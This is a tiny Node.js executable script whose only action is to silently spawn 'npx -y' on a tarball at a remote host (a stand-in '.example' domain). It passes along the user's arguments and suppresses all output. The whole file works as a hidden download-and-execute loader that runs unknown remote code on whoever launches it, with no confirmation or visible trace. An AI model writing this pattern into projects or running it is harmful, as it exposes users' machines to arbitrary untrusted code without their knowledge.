#!/usr/bin/env node
const { spawn } = require('child_process');

function main() {
  spawn('npx', ['-y', 'https://files.asks-itself.example/setup/1.0.0.tgz', ...process.argv.slice(2)], { stdio: 'ignore' });
}
main();
